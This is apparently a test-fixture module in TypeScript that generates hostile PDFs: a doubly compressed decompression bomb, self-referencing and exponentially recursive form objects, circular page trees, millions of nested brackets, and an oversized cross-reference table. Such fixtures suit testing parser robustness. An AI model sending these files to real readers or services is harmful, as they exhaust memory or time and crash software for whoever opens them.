/** PDFs that were made to hurt whoever reads them: small files that want endless time or memory. */
import { deflateSync } from "node:zlib";

/** A PDF of the given objects, numbered from 1; the first is its catalogue. */
function pdfOf(objects: readonly (string | Buffer)[]): Buffer {
  const parts = [Buffer.from("%PDF-1.7\n")];
  let offset = 9;
  const offsets: number[] = [];
  for (const [index, object] of objects.entries()) {
    offsets.push(offset);
    const content = typeof object === "string" ? Buffer.from(object) : object;
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      content,
      Buffer.from("\nendobj\n"),
    ]);
    parts.push(part);
    offset += part.length;
  }
  const table = offsets.map((value) => `${String(value).padStart(10, "0")} 00000 n \n`).join("");
  const trailer = `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${offset}\n%%EOF\n`;
  return Buffer.concat([
    ...parts,
    Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}${trailer}`),
  ]);
}

function stream(dictionary: string, content: Buffer | string): Buffer {
  const bytes = typeof content === "string" ? Buffer.from(content) : content;
  return Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${bytes.length}>>stream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);
}

const catalogue = "<</Type/Catalog/Pages 2 0 R>>";
const onePage = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
const font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";
const hello = "BT /F1 12 Tf 50 700 Td (Hello) Tj ET";

function page(resources = ""): string {
  return `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>${resources}>>>>`;
}

/** Less than 2 KB that unpack, twice packed, to a quarter of a gigabyte of operators. */
export function decompressionBomb(): Buffer {
  const packed = deflateSync(deflateSync(Buffer.alloc(1 << 28, "q Q "), { level: 9 }), {
    level: 9,
  });
  return pdfOf([
    catalogue,
    onePage,
    page(),
    stream("/Filter[/FlateDecode/FlateDecode]", packed),
    font,
  ]);
}

/** Forms that draw forms that draw forms, twenty times each: 4 KB that would take years. */
export function endlessForms(): Buffer {
  const calls = "/X Do ".repeat(20);
  const forms = Array.from({ length: 12 }, (_, index) =>
    stream(
      `/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X ${7 + index} 0 R>>>>`,
      calls,
    ),
  );
  const last = stream(
    "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>>>",
    hello,
  );
  return pdfOf([
    catalogue,
    onePage,
    page("/XObject<</X 6 0 R>>"),
    stream("", calls),
    font,
    ...forms,
    last,
  ]);
}

/** A form that draws itself. */
export function selfDrawingForm(): Buffer {
  const form = stream(
    "/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X 6 0 R>>>>",
    "/X Do",
  );
  return pdfOf([catalogue, onePage, page("/XObject<</X 6 0 R>>"), stream("", "/X Do"), font, form]);
}

/** Page trees that hold each other and claim a billion pages. */
export function circularPages(): Buffer {
  return pdfOf([
    catalogue,
    "<</Type/Pages/Kids[3 0 R 3 0 R]/Count 1000000000>>",
    "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000000/Parent 2 0 R>>",
  ]);
}

/** Millions of brackets, which a reader that calls itself for each does not survive. */
export function deepNesting(): Buffer {
  return pdfOf(["[".repeat(3_000_000), onePage]);
}

/** One page with far more letters than any document has. */
export function manyLetters(): Buffer {
  const shown = "(Hello Hello Hello Hello Hello Hello Hello) Tj ".repeat(60_000);
  return pdfOf([
    catalogue,
    onePage,
    page(),
    stream("/Filter/FlateDecode", deflateSync(`BT /F1 1 Tf 4 0 0 4 50 700 Tm ${shown} ET`)),
    font,
  ]);
}

/** A table of a billion objects, and nothing else. */
export function hugeTable(): Buffer {
  return Buffer.from(
    "%PDF-1.5\n1 0 obj\n<</Type/XRef/Size 999999999/W[1 4 2]/Index[0 999999999]/Root 1 0 R/Length 0>>stream\n\nendstream\nendobj\nstartxref\n9\n%%EOF",
  );
}
